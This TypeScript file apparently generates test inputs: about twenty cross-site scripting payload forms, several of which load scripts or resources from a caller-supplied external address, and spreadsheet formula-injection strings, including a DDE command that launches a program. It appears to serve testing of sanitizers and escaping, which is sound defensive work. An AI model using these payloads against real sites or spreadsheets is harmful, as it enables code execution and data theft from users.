/** Ways in which text has become a program, each with a number so that what ran can be told. `away` is an address that counts. */
export function scripts(away: string): readonly string[] {
  const forms: readonly ((no: number) => string)[] = [
    (no) => `<script>console.log('ran-${no}')</script>`,
    (no) => `"><img src=x onerror="console.log('ran-${no}')">`,
    (no) => `' onmouseover='console.log("ran-${no}")`,
    (no) => `</style><script src="${away}/${no}.js"></script>`,
    (no) => `</title><svg onload=console.log('ran-${no}')>`,
    (no) => `<a href="javascript:console.log('ran-${no}')">x</a>`,
    (no) => `[x](javascript:console.log('ran-${no}'))`,
    (no) => `![x](${away}/${no}.png)`,
    (no) => `<iframe srcdoc="<script>parent.console.log('ran-${no}')</script>"></iframe>`,
    (no) => `]]><object data=${away}/${no}></object>`,
    (no) => `<link rel=stylesheet href=${away}/${no}.css>`,
    (no) => `<style>*{background:url(${away}/${no})}</style>`,
    (no) => `<meta http-equiv=refresh content="0;url=${away}/${no}">`,
    (no) => `<math><mtext></p><img src=${away}/${no} onerror=console.log('ran-${no}')>`,
    (no) => `<svg><animate onbegin=console.log('ran-${no}') attributeName=x dur=1s>`,
    (no) => `\u0000<scr\u0000ipt>console.log('ran-${no}')</scr\u0000ipt>`,
    (no) => `&lt;script&gt;console.log('ran-${no}')&#60;/script>`,
    (no) => `<details open ontoggle=console.log('ran-${no}')>`,
    (no) => `<input autofocus onfocus=console.log('ran-${no}')>`,
    (no) => `\`<script>console.log('ran-${no}')</script>\``,
  ];
  return Array.from({ length: 200 }, (_, no) => (forms[no % forms.length] ?? String)(no));
}

/** What a spreadsheet takes for a formula, also behind blanks, signs that are not seen, and separators of other countries. */
export function formulas(): readonly string[] {
  const bodies = ['1+1', 'SUM(A1:A9)', 'cmd|" /C calc"!A0', 'HYPERLINK("http://127.0.0.1:9/";"x")', 'IMPORTXML("http://127.0.0.1:9/","//a")']; // prettier-ignore
  const begins = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', 'a\n=', 'a;=']; // prettier-ignore
  return begins.flatMap((begin) => bodies.map((body) => begin + body));
}
